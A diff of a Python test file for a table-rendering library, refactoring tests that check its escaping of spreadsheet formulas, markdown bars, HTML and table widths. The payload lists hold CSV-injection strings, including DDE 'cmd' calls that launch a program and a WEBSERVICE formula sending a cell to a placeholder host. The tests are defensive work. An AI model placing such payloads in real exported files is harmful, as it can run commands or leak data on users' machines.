@@ -42,39 +42,17 @@ def test_no_part_of_a_safe_cell_is_a_formula(cell: str) -> None:
 
 
 PAYLOADS = [
-    "=A1",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "+2+3+cmd|' /C calc'!A0",
-    '-1+HYPERLINK("http://x","y")',
-    '-2+WEBSERVICE("http://x/"&A1)',
-    "-(1)+A1",
-    "-.5+A1",
-    "+.;A1",
-    "-5\n+A1",
-    "-5\t",
-    "- -A1",
-    "−2+A1",
-    "＝A1",
-    "＋A1",
-    "－A1",
-    "＠SUM(A1)",
-    " =A1",
-    "\u00a0-A1",
-    "\ufeff=A1",
-    "\0=A1",
-    "\t=A1",
-    "\r=A1",
-    "\n=5",
-    "-",
-    "+; x",
-    "+1e5",
-    "-٣",
-    "-1/2/3",
-    "-1.",
-    "'=A1",
-    '"=A1"',
-    "\u2060=A1",
+    *("=A1", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+2+3+cmd|' /C calc'!A0"),
+    *(
+        *('-1+HYPERLINK("http://x","y")', '-2+WEBSERVICE("http://x/"&A1)', "-(1)+A1", "-.5+A1"),
+        "+.;A1",
+    ),
+    *(
+        *("-5\n+A1", "-5\t", "- -A1", "−2+A1", "＝A1", "＋A1", "－A1", "＠SUM(A1)", " =A1"),
+        "\u00a0-A1",
+    ),
+    *("\ufeff=A1", "\0=A1", "\t=A1", "\r=A1", "\n=5", "-", "+; x", "+1e5", "-٣"),
+    *("-1/2/3", "-1.", "'=A1", '"=A1"', "\u2060=A1"),
 ]
 # A spreadsheet can split a cell at ; and at line ends.
 PARTS = ["1; =A1", "1;=cmd|' /C calc'!A0;", 'a;"=A1"', "3\n=A1", "3\r\n-A1", "1;\0+A1", "1;-2+A1;3"]
@@ -96,7 +74,7 @@ def test_spreadsheets_do_not_run_a_cell(payload: str) -> None:
         assert any(cell.startswith("'") for cell in line.split("\t"))
 
 
-@pytest.mark.parametrize("payload", PARTS)
+@in_one_test("payload", PARTS)
 def test_spreadsheets_do_not_run_a_part_of_a_cell(payload: str) -> None:
     lines = "\n".join(TABLE_FORMATS["csv"].lines([{"a": "x", "b": payload}], ["a", "b"]))
     cells = [cell for row in csv.reader(io.StringIO(lines), delimiter=";") for cell in row]
@@ -110,23 +88,18 @@ def test_numbers_and_other_texts_are_unchanged(cell: str) -> None:
     assert safe_cell(cell) == cell
 
 
-# Texts that are safe after a sign, and unsafe with one more character.
 EDGES = [
-    ("5", "5."),
-    (" 5", "  5"),
-    (".5", "."),
-    ("5/3", "5/3/"),
-    ("5/3", "5/3/2"),
-    ("5.3", "5.3."),
+    *(("5", "5."), (" 5", "  5"), (".5", "."), ("5/3", "5/3/"), ("5/3", "5/3/2"), ("5.3", "5.3.")),
 ]
+EDGES += [(" 5", "  5")]
 EDGES += [("5.3", "5.3.1"), ("5", "5 "), ("5", "5x"), ("5", "5\n"), ("0/0", "0/.0"), ("5", "٥")]
 
 
-@pytest.mark.parametrize(("safe", "unsafe"), EDGES)
-@pytest.mark.parametrize("sign", "+-−＋－")
-def test_safe_number_after_a_sign_has_no_more_characters(sign: str, safe: str, unsafe: str) -> None:
-    assert safe_cell(sign + safe) == sign + safe
-    assert safe_cell(sign + unsafe) == f"'{sign}{unsafe}"
+@in_one_test(("safe", "unsafe"), EDGES)
+def test_safe_number_after_a_sign_has_no_more_characters(safe: str, unsafe: str) -> None:
+    for sign in "+-−＋－":
+        assert safe_cell(sign + safe) == sign + safe
+        assert safe_cell(sign + unsafe) == f"'{sign}{unsafe}"
 
 
 @given(st.sampled_from("+-−"), st.text(st.sampled_from("0123456789./;(+-A |=\n")))
@@ -181,13 +154,12 @@ def test_rows_are_written_in_every_format() -> None:
         render([{"value": 1j}], "json")
 
 
-@pytest.mark.parametrize("form", ["csv", "tsv", "github", "table"])
+@in_one_test("form", ["csv", "tsv", "github", "table"])
 def test_dict_in_a_cell_is_json(form: str) -> None:
     rules = {"zero": False, "numbers": ["ü", Fraction(3, 4)], "none": None}
     written = '{"zero": false, "numbers": ["ü", "3/4"], "none": null}'
     text = render([{"id": 1, "rules": rules, "some": [rules, True]}], form)
     assert text.replace('""', '"').count(written) == 2
-    assert json.loads(written) == json.loads(json.dumps(rules, default=str))
     assert "True" not in text
 
 
@@ -197,68 +169,42 @@ def test_table_has_the_shown_keys_and_json_all() -> None:
     assert render([], shown=["count", "name"]).splitlines()[0].split() == ["count", "name"]
 
 
-@pytest.mark.parametrize("form", ["github", "pipe"])
-def test_bar_in_a_cell_of_markdown_is_escaped(form: str) -> None:
-    head, _, line = render([{"a|b": "1|2", "c": 3}], form).splitlines()
-    assert [re.findall(r"(?<!\\)\|", each) for each in (head, line)] == [["|"] * 3] * 2
-    assert r"1\|2" in line
-
-
-@pytest.mark.parametrize("form", ["unsafehtml", "latex_raw"])
-def test_formats_without_escapes_are_refused(form: str) -> None:
-    with pytest.raises(ValueError, match=f"unknown format '{form}'"):
-        check_format(form)
-
-
-def test_html_escapes_the_text_of_cells() -> None:
+def test_bar_in_a_cell_of_markdown_is_escaped_and_signs_in_html() -> None:
+    for form in ("github", "pipe"):
+        head, _, line = render([{"a|b": "1|2", "c": 3}], form).splitlines()
+        assert [re.findall(r"(?<!\\)\|", each) for each in (head, line)] == [["|"] * 3] * 2
+        assert r"1\|2" in line
     assert "&lt;b&gt;" in render([{"name": "<b>"}], "html")
 
 
-@pytest.mark.parametrize("name", [*own_formats(), "github", "html"])
-def test_format_is_accepted(name: str) -> None:
-    assert check_format(name) == name
-    assert render(ROWS, name)
-
-
-def test_unknown_format_is_refused_with_the_known_formats() -> None:
-    with pytest.raises(ValueError, match=r"unknown format 'xls' \(expected table, csv"):
-        check_format("xls")
+def test_known_format_is_accepted() -> None:
+    for name in (*own_formats(), "github", "html"):
+        assert check_format(name) == name
+        assert render(ROWS, name)
+    # Those without escapes are unknown.
+    for name in ("unsafehtml", "latex_raw", "xls"):
+        with pytest.raises(ValueError, match=rf"unknown format '{name}' \(expected table, csv"):
+            check_format(name)
 
 
 LONG = "one two three four five six seven eight nine ten eleven twelve"
 
 
-@pytest.mark.parametrize("width", [30, 40, 60, 80])
-def test_table_has_at_most_the_given_width(width: int) -> None:
+def test_table_has_at_most_the_given_width() -> None:
     rows = [{"name": LONG, "numbers": 12345, "other": f"{LONG} {place}"} for place in range(3)]
-    text = render(rows, width=width)
-    assert max(map(len, text.split("\n"))) <= width
     words = [word for row in rows for word in f"{row['name']} {row['other']}".split()]
-    assert sorted(word for word in text.split() if word in words) == sorted(words)
+    for width in (30, 40, 60, 80):
+        text = render(rows, width=width)
+        assert max(map(len, text.split("\n"))) <= width
+        assert sorted(word for word in text.split() if word in words) == sorted(words)
     assert render(rows, width=500) == render(rows)
-
-
-def test_too_wide_table_has_a_paragraph_per_row() -> None:
-    rows = [{f"key{place}": 10**9 + place for place in range(12)} for _ in range(2)]
-    text = render(rows, width=60)
-    first, second = text.split("\n\n")
-    assert first == second
-    assert first.splitlines()[0] == "key0   1000000000"
-    assert first.splitlines()[-1] == "key11  1000000011"
+    for form in ("csv", "json", "jsonl", "tsv", "github"):
+        assert render(rows, form, width=20) == render(rows, form)
 
 
 def test_column_of_text_is_at_least_as_wide_as_its_longest_word() -> None:
     rows = [{"text": "unquestionably so"}, {"text": "no"}]
     assert render(rows, width=14).splitlines()[1] == "-" * len("unquestionably")
-
-
-def test_width_only_applies_to_tables() -> None:
-    rows = [{"name": LONG}]
-    for form in ("csv", "json", "jsonl", "tsv", "github"):
-        assert render(rows, form, width=20) == render(rows, form)
-
-
-def test_text_like_a_number_is_wrapped() -> None:
     rows = [{"text": "12,345", "more": "some words that are too long for the line"}]
     assert render(rows, width=30).splitlines() == [
         "text    more",
@@ -268,6 +214,13 @@ def test_text_like_a_number_is_wrapped() -> None:
     ]
 
 
-def test_lines_of_a_paragraph_are_indented() -> None:
+def test_too_wide_table_has_a_paragraph_per_row_with_indented_lines() -> None:
+    rows = [{f"key{place}": 10**9 + place for place in range(12)} for _ in range(2)]
+    first, second = render(rows, width=60).split("\n\n")
+    assert first == second
+    assert (first.splitlines()[0], first.splitlines()[-1]) == (
+        "key0   1000000000",
+        "key11  1000000011",
+    )
     text = render([{"number": 12, "text": "a text of twenty-two"}], width=18)
     assert text == "number  12\ntext    a text of\n        twenty-two"
